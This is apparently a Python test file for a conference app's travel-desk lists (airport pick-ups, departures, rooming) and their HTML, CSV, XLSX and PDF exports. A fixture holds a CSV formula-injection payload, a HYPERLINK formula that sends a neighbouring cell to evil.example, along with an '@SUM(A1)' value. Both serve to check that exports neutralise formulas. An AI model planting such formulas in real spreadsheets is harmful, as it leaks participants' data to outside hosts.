"""The host's lists on the desk: the airport pick-up list (arrivals by day and
hour), departures and the rooming list per hotel, as pages and as CSV, XLSX and
PDF; in the reader's order of names; for the meeting's hosts and organisers only."""

import csv
import html
import io
import re
from datetime import date, datetime, time

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from meeting_app.accounts.models import Role
from meeting_app.extensions import db
from meeting_app.privacy.models import AuditEntry
from meeting_app.registration.models import RegistrationStatus
from meeting_app.travel import services
from meeting_app.travel.services import TravelInput
from tests.travel.helpers import add_hotel, block_of, travel_meeting

BASE = "/desk/meetings/rabat/travel"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
FR, EN = {"Accept-Language": "fr"}, {"Accept-Language": "en"}


def _day(n: int) -> date:
    return date(2031, 6, n)


@pytest.fixture
def meeting(open_meeting):
    return travel_meeting(open_meeting, slug="rabat")


@pytest.fixture
def people(meeting, make_participant):
    """Arrivals on 15, 16 and 17 June; rooms at the Ibis, shared by name."""
    hotel = add_hotel(meeting, "Ibis Rabat", ("Single", 5), ("Double", 5))
    single, double = block_of(hotel, "Single"), block_of(hotel, "Double")
    senegal, morocco = (
        next(d for d in meeting.delegations if d.country_code == c) for c in ("SN", "MA")
    )

    def person(given, family, delegation, travel, block, share="", **values):
        p = make_participant(
            meeting, given_name=given, family_name=family, delegation=delegation, **values
        )
        services.save(p, travel, block.id if block else None, share)
        db.session.commit()
        return p

    arriving = {
        "zulu": person(
            "Ana",
            "Zulu",
            morocco,
            TravelInput(_day(15), time(9, 20), "AT 201", "RBA"),
            double,
            "Nobody Here",
        ),
        "emond": person(
            "Luc",
            "Émond",
            senegal,
            TravelInput(
                _day(15),
                time(14, 35),
                "AT 512",
                "RBA",
                _day(19),
                time(9, 10),
                "AT 513",
                "RBA",
                airport_transfer=True,
            ),
            single,
            "evans mary",
            phone="+221 77 123 45 67",
        ),
        "evans": person(
            "Mary",
            "Evans",
            None,
            TravelInput(
                _day(15), time(14, 35), "AT 512", "RBA", _day(18), time(18, 0), "AT 515", "RBA"
            ),
            single,
            "Luc Emond",
        ),
        "olena": person(
            "Олена",
            "Шевченко",
            None,
            TravelInput(_day(16), time(8, 10), "PS 777", "CMN"),
            double,
            "Mary Evans",
        ),
        "salma": person("سلمى", "بنعلي", morocco, TravelInput(_day(16)), single),
        "hostile": person(
            "Eve", HOSTILE, None, TravelInput(_day(17), time(11, 0), "X1", "@SUM(A1)"), None
        ),
    }
    # Not on the pick-ups: a waiting list and a cancelled registration (no seat), and
    # someone who has given nothing yet (counted as not given).
    person(  # holds a room: on the rooming list, marked, not on the pick-ups
        "Wait",
        "Listed",
        None,
        TravelInput(_day(15), time(9, 0)),
        double,
        status=RegistrationStatus.WAITLISTED,
    )
    person(
        "Can",
        "Celled",
        None,
        TravelInput(_day(15), time(9, 0)),
        None,
        status=RegistrationStatus.CANCELLED,
    )
    make_participant(meeting, given_name="Not", family_name="Given")
    return arriving


@pytest.fixture
def host(client, make_user, login, meeting):
    make_user(Role.HOST, "door@example.org", meetings=[meeting])
    login("door@example.org")


def _rows_of(page: str) -> list[str]:
    """The names of a page's table rows, in order."""
    return [
        html.unescape(n).rsplit(", ", 1)[0]
        for n in re.findall(r'<t[dh][^>]* dir="auto">([^<]+)', page)
    ]


def test_pickup_list_is_by_day_and_hour_then_name_in_the_readers_order(client, host, people):
    page = client.get(f"{BASE}/pickups", headers=FR).get_data(as_text=True)
    # Émond before Evans at 14:35 (code points put É after every plain letter).
    assert _rows_of(page) == ["Zulu", "Émond", "Evans", "Шевченко", "بنعلي", HOSTILE]
    page = client.get(f"{BASE}/pickups", headers=EN).get_data(as_text=True)
    for hour in ("09:00–09:59", "14:00–14:59", "08:00–08:59", "Time not given"):
        assert hour in page
    emond = (
        page.split("Émond", 1)[0].rsplit("<tr>", 1)[1]
        + page.split("Émond", 1)[1].split("</tr>", 1)[0]
    )
    assert all(
        text in emond for text in ("14:35", "AT 512", "RBA", "Yes", "Senegal", "+221 77 123 45 67")
    )
    assert "Listed" not in page and "Celled" not in page
    assert "1 participant has not given this date yet." in page
    assert str(escape(HOSTILE)) in page and HOSTILE not in page  # escaped, never markup


def test_departures_are_listed_by_their_own_day(client, host, people):
    page = client.get(f"{BASE}/departures", headers=EN).get_data(as_text=True)
    assert _rows_of(page) == ["Evans", "Émond"]  # 18 June, then 19 June
    assert "AT 515" in page and "AT 513" in page and "AT 512" not in page
    assert "5 participants have not given this date yet." in page


def test_rooming_list_per_hotel_and_block_says_whom_people_share_with(client, host, people):
    page = client.get(f"{BASE}/rooming", headers=EN).get_data(as_text=True)
    assert "Ibis Rabat" in page
    single, double = page.split("Double", 1)
    assert _rows_of(single) == ["Émond", "Evans", "بنعلي"]
    assert _rows_of(double) == ["Listed", "Zulu", "Шевченко"]
    assert 'Listed, Wait <span class="meta">(Waiting list)</span>' in double
    # Names matched accents, case and order aside.
    assert (
        'evans mary</span> <span class="meta">(a participant with a room in the same block)' in page
    )
    assert (
        'Luc Emond</span> <span class="meta">(a participant with a room in the same block)' in page
    )
    assert (
        'Mary Evans</span> <span class="meta">(a participant with a room in another block)' in page
    )
    assert 'Nobody Here</span> <span class="meta">(no participant of this name)' in page
    assert "3 of 5 rooms taken" in single and "3 of 5 rooms taken" in double


def _csv(client, kind: str, **args) -> list[list[str]]:
    response = client.get(f"{BASE}/{kind}.csv", query_string=args, headers=EN)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f'attachment; filename="rabat-{kind}.csv"'
    delimiter = ";" if args.get("sep") == "semicolon" else ","
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_lists_hold_the_pages_rows_and_neutralise_formulas(client, host, meeting, people):
    """Bad outcomes tried: a name and an airport that a spreadsheet would run as a
    formula (a link that sends the next cell away; a sum); a phone number made
    unreadable by the protection."""
    header, *rows = _csv(client, "pickups", sep="comma")
    assert header[:5] == ["Date", "Time (Casablanca Time)", "Flight", "Airport", "Airport transfer"]
    assert [r[5] for r in rows] == ["Zulu", "Émond", "Evans", "Шевченко", "بنعلي", "'" + HOSTILE]
    assert rows[1][:5] == ["2031-06-15", "14:35", "AT 512", "RBA", "Yes"]
    assert rows[1][7:9] == ["Senegal", "+221 77 123 45 67"]
    assert rows[-1][3] == "'@SUM(A1)"
    assert not any(
        cell.startswith(("=", "@", "+", "-"))
        for row in rows
        for cell in row
        if cell != "+221 77 123 45 67"
    )
    _header, *rooming = _csv(client, "rooming", sep="semicolon")  # for French spreadsheets
    assert [r[5] for r in rooming] == ["Émond", "Evans", "بنعلي", "Listed", "Zulu", "Шевченко"]
    assert rooming[0][:5] == ["Ibis Rabat", "Single", "2031-06-15", "2031-06-18", "4"]
    assert rooming[0][8:] == [
        "evans mary",
        "a participant with a room in the same block",
        "Approved",
    ]
    assert rooming[3][-1] == "Waiting list"
    entries = db.session.execute(
        db.select(AuditEntry).filter_by(action="travel.exported").order_by(AuditEntry.id)
    ).scalars()
    assert [e.details for e in entries] == ["pickups, csv", "rooming, csv"]


def test_xlsx_lists_open_with_typed_dates_and_times(client, host, people):
    response = client.get(f"{BASE}/pickups.xlsx", headers=EN)
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Date" and sheet.title == "Airport pick-ups"
    assert rows[2][:4] == (datetime(2031, 6, 15), time(14, 35), "AT 512", "RBA")
    assert rows[-1][5] == HOSTILE  # a text cell, never a formula, in XLSX
    assert sheet.cell(row=len(rows), column=6).data_type == "s"
    rooming = load_workbook(io.BytesIO(client.get(f"{BASE}/rooming.xlsx").data)).active
    assert [r[5] for r in rooming.iter_rows(min_row=2, values_only=True)] == [
        "Émond",
        "Evans",
        "بنعلي",
        "Listed",
        "Zulu",
        "Шевченко",
    ]


def _pdf(client, kind: str) -> tuple[str, set[str]]:
    response = client.get(f"{BASE}/{kind}.pdf", headers=EN)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    fonts = {
        str(font.get_object()["/BaseFont"]).split("+")[-1]
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    }
    return "\n".join(page.extract_text() for page in reader.pages), fonts


def test_pdf_lists_render_latin_cyrillic_and_arabic_names(client, host, people):
    text, fonts = _pdf(client, "pickups")
    assert "Airport pick-ups" in text
    for expected in ("Émond, Luc", "Шевченко, Олена", "AT 512", "+221 77 123 45 67"):
        assert expected in text, expected
    assert text.index("Zulu") < text.index("Émond") < text.index("Evans") < text.index("Шевченко")
    assert any("Arabic" in font for font in fonts), fonts  # the Arabic name has its font
    assert any(c in text for c in "سلمىبنعلي")
    rooming, _fonts = _pdf(client, "rooming")
    assert "Rooming list" in rooming and "Ibis Rabat" in rooming
    assert "a participant with a room in another block" in rooming


def test_desk_nav_links_to_the_lists_when_the_section_is_on(client, host, meeting):
    page = client.get("/desk/meetings/rabat/check-in", headers=EN).get_data(as_text=True)
    assert f"{BASE}/pickups" in page and f"{BASE}/rooming" in page
    meeting.travel_enabled = False
    db.session.commit()
    page = client.get("/desk/meetings/rabat/check-in", headers=EN).get_data(as_text=True)
    assert f"{BASE}/pickups" not in page


def test_a_host_of_another_meeting_finds_nothing(
    client, meeting, people, open_meeting, make_user, login
):
    other = open_meeting(slug="dakar")
    make_user(Role.HOST, "dakar-door@example.org", meetings=[other])
    login("dakar-door@example.org")
    for path in (
        "pickups",
        "departures",
        "rooming",
        "pickups.csv",
        "rooming.xlsx",
        "departures.pdf",
    ):
        assert client.get(f"{BASE}/{path}").status_code == 404, path
    # Signed out: the sign-in page.
    client.post("/logout")
    assert client.get(f"{BASE}/pickups").status_code == 302
    assert (
        db.session.scalar(
            db.select(db.func.count(AuditEntry.id)).filter_by(action="travel.exported")
        )
        == 0
    )
